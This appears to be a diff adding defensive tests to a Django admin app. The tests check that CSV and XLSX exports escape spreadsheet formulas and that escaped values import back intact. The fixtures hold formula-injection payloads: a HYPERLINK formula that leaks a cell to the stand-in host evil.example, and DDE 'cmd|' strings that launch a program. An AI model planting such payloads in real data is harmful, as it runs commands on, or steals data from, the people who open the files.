@@ -22,8 +22,9 @@ from activism.resources import (
     RegionResource,
     ThemeResource,
 )
+from activism.spreadsheets import FORMULA_STARTS
 
-from .conftest import make_city
+from .conftest import make_author, make_city, make_initiative, make_post, make_region, make_theme, submit_form
 
 pytestmark = pytest.mark.django_db
 
@@ -445,6 +446,93 @@ def test_every_list_exports_without_internal_fields(admin_client, site_data, mod
         header = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
     assert "slug" in header
     assert "version" not in header and "search_text" not in header
+
+
+# Text a spreadsheet would run as a formula
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+MORE_FORMULAS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+def records_with_formulas(model):
+    """A record of the model whose text starts as formulas do; returns that text."""
+    at, plus, minus = MORE_FORMULAS
+    if model == "region":
+        make_region(FORMULA, slug="-2-3-cmd")
+        return [FORMULA, "-2-3-cmd"]
+    if model == "city":
+        make_city(FORMULA, make_region("Formula region", slug="-2-3-cmd"), slug="formula-city")
+        return [FORMULA, "-2-3-cmd"]  # a related record's slug too
+    if model == "theme":
+        make_theme(FORMULA, slug="formula-theme", description=at)
+        return [FORMULA, at]
+    if model == "initiative":
+        make_initiative(FORMULA, slug="formula", summary=at, description=plus, image_alt=minus, year_started=2019)
+        return [FORMULA, at, plus, minus]
+    if model == "author":
+        make_author(FORMULA, slug="formula-author", affiliation=at, bio=plus)
+        return [FORMULA, at, plus]
+    make_post(FORMULA, slug="formula-post", lead=at, body=minus)
+    return [FORMULA, at, minus]
+
+
+def export_from_the_page(client, model, file_format):
+    """What a researcher gets from the export page: every column ticked, the format chosen, the form sent."""
+    response = submit_form(client, reverse(f"admin:activism_{model}_export"), {"format": file_format})
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith("attachment;")
+    return response
+
+
+def exported_cells(response, file_format):
+    """Every cell of an exported file below the header, as (value, openpyxl data type or None for CSV)."""
+    if file_format == CSV_FORMAT:
+        _header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        return [(value, None) for row in rows for value in row]
+    _header, *rows = openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows()
+    return [(cell.value, cell.data_type) for row in rows for cell in row]
+
+
+@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
+@pytest.mark.parametrize("model", ["region", "city", "theme", "initiative", "author", "blogpost"])
+def test_no_exported_cell_is_a_formula_a_spreadsheet_would_run(admin_client, site_data, model, file_format):
+    written = records_with_formulas(model)
+    cells = exported_cells(export_from_the_page(admin_client, model, file_format), file_format)
+    assert all(data_type != "f" for _value, data_type in cells), "openpyxl wrote a formula cell"
+    texts = [value for value, data_type in cells if data_type in {None, "s"}]  # text cells, and every CSV cell
+    assert [text for text in texts if str(text).startswith(FORMULA_STARTS)] == []
+    assert [f"'{text}" in texts for text in written] == [True] * len(written)  # shown as text, as written
+
+
+def test_an_export_keeps_negative_coordinates_and_years_as_numbers(admin_client, site_data):
+    make_city(FORMULA, latitude="-12.500000", longitude="-77.030000", slug="lima")
+    make_initiative("-2+3 Movement", slug="movement", year_started=2019)
+    sheet = openpyxl.load_workbook(io.BytesIO(export_from_the_page(admin_client, "city", XLSX_FORMAT).content)).active
+    header, *rows = sheet.iter_rows()
+    lima = next(dict(zip([cell.value for cell in header], row, strict=True)) for row in rows if row[1].value == "lima")
+    assert (lima["latitude"].value, lima["latitude"].data_type) == (-12.5, "n")
+    assert (lima["longitude"].value, lima["longitude"].data_type) == (-77.03, "n")
+    assert (lima["name_en"].value, lima["name_en"].data_type) == ("'" + FORMULA, "s")
+    rows = csv.DictReader(
+        io.StringIO(export_from_the_page(admin_client, "city", CSV_FORMAT).content.decode("utf-8-sig"))
+    )
+    lima = next(row for row in rows if row["slug"] == "lima")
+    assert (lima["latitude"], lima["longitude"]) == ("-12.500000", "-77.030000")
+    rows = csv.DictReader(
+        io.StringIO(export_from_the_page(admin_client, "initiative", CSV_FORMAT).content.decode("utf-8-sig"))
+    )
+    movement = next(row for row in rows if row["slug"] == "movement")
+    assert (movement["name_en"], movement["year_started"]) == ("'-2+3 Movement", "2019")
+
+
+def test_an_exported_formula_imports_back_as_it_was(admin_client, site_data):
+    make_city(FORMULA, latitude="-12.500000", longitude="-77.030000", slug="lima")
+    exported = export_from_the_page(admin_client, "city", CSV_FORMAT)
+    file = SimpleUploadedFile("cities.csv", exported.content, content_type="text/csv")
+    result = upload(admin_client, "city", file).context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert set(rows_by_type(result)) == {"skip"}  # nothing changed: no name gained an apostrophe
+    assert City.objects.get(slug="lima").name_en == FORMULA
 
 
 # The pages, and who may use them
